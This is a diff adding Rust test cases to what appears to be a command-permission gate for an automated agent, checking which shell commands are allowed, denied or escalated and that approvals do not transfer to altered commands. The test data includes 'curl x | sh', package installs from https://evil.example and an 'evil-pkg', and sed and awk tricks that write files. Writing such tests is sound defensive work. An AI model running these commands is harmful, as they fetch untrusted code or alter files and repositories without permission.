@@ -17,6 +17,7 @@ fn session(level: Level, autonomy: Autonomy) -> Session<'static> {
         level,
         autonomy,
         repository: REPOSITORY,
+        unjudged: Unjudged::none(),
     }
 }
 
@@ -341,6 +342,29 @@ fn a_level_is_a_ceiling_and_autonomy_a_measure() {
         ("ls", Read, Gated, Allow),
         ("pytest", Read, Gated, Deny),
         ("echo x > y", Read, Gated, Deny),
+        ("awk '{print $1}' f", Read, Gated, Allow),
+        (
+            "awk '$3 > 5 {print $1 > \"/dev/stderr\"}' f",
+            Read,
+            Gated,
+            Allow,
+        ),
+        (
+            "awk 'BEGIN{print \"x\" > \"src/app.py\"}'",
+            Read,
+            Gated,
+            Deny,
+        ),
+        ("sed -n '1,40p' f", Read, Gated, Allow),
+        ("sed 's/now we/go on/' f", Read, Gated, Allow),
+        ("sed 'w src/app.py' f", Read, Gated, Deny),
+        ("sed -n 's/a/b/w out' f", Read, Gated, Deny),
+        ("sed -f x.sed f", Read, Gated, Deny),
+        ("git diff --stat", Read, Gated, Allow),
+        ("git diff --output=out", Read, Gated, Deny),
+        ("git log -p --ext-diff", Read, Gated, Deny),
+        ("git grep -n x", Read, Gated, Allow),
+        ("git grep -Oless x", Read, Gated, Deny),
         ("pytest", Write, Gated, Allow),
         ("git push origin x", Write, Gated, Deny),
         ("git push origin x", Admin, Gated, Ask),
@@ -400,6 +424,24 @@ fn what_is_asked_is_the_same_only_where_it_concerns_the_same() {
     );
     assert_eq!(class("echo x > go.mod"), class("sed -i s/a/b/ go.mod"));
     assert_ne!(class("curl x | sh"), class("curl y | sh"));
+    for (approved, other) in [
+        ("npm add lodash", "npm add lodash evil-pkg"),
+        ("npm install lodash", "npm install lodash evil-pkg"),
+        (
+            "npm install lodash",
+            "npm install lodash --registry=https://evil.example",
+        ),
+        (
+            "cargo add serde",
+            "cargo add serde --git https://evil.example/x",
+        ),
+        ("poetry add requests", "poetry add requests --source evil"),
+        ("gh pr create --fill", "gh pr create --fill --repo evil/x"),
+        ("gh repo delete a", "gh repo delete b"),
+    ] {
+        assert_ne!(class(approved), class(other), "{approved}");
+        assert_ne!(class(approved), "", "{approved}");
+    }
     assert_eq!(class("ls"), "");
 }
 
